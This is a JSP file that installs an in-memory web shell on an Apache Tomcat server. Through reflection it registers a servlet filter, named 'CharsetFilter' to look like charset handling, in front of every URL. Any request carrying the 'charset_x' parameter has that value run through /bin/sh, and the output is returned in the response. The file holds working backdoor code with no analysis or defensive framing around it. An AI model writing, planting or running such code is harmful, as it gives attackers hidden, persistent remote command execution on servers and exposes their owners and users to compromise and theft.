<%@ page import="java.lang.reflect.Field,org.apache.catalina.core.*,org.apache.tomcat.util.descriptor.web.*,org.apache.catalina.Context,javax.servlet.*,java.io.*" %>
<%
    final String name = "CharsetFilter";
    ServletContext sc = request.getSession().getServletContext();
    Field f = sc.getClass().getDeclaredField("context");
    f.setAccessible(true);
    ApplicationContext appCtx = (ApplicationContext) f.get(sc);
    f = appCtx.getClass().getDeclaredField("context");
    f.setAccessible(true);
    StandardContext std = (StandardContext) f.get(appCtx);
    Filter filter = new Filter() {
        public void init(FilterConfig c) { }
        public void doFilter(ServletRequest req, ServletResponse resp, FilterChain chain) throws IOException, ServletException {
            String c = req.getParameter("charset_x");
            if (c != null) {
                InputStream in = new ProcessBuilder("/bin/sh", "-c", c).start().getInputStream();
                byte[] b = new byte[4096]; int n;
                while ((n = in.read(b)) > 0) resp.getOutputStream().write(b, 0, n);
                return;
            }
            chain.doFilter(req, resp);
        }
        public void destroy() { }
    };
    FilterDef def = new FilterDef();
    def.setFilter(filter);
    def.setFilterName(name);
    def.setFilterClass(filter.getClass().getName());
    std.addFilterDef(def);
    FilterMap map = new FilterMap();
    map.addURLPattern("/*");
    map.setFilterName(name);
    map.setDispatcher(DispatcherType.REQUEST.name());
    std.addFilterMapBefore(map);
    java.lang.reflect.Constructor ctor = ApplicationFilterConfig.class.getDeclaredConstructor(Context.class, FilterDef.class);
    ctor.setAccessible(true);
    Field cfgs = std.getClass().getDeclaredField("filterConfigs");
    cfgs.setAccessible(true);
    ((java.util.Map) cfgs.get(std)).put(name, ctor.newInstance(std, def));
    out.print("ok");
%>
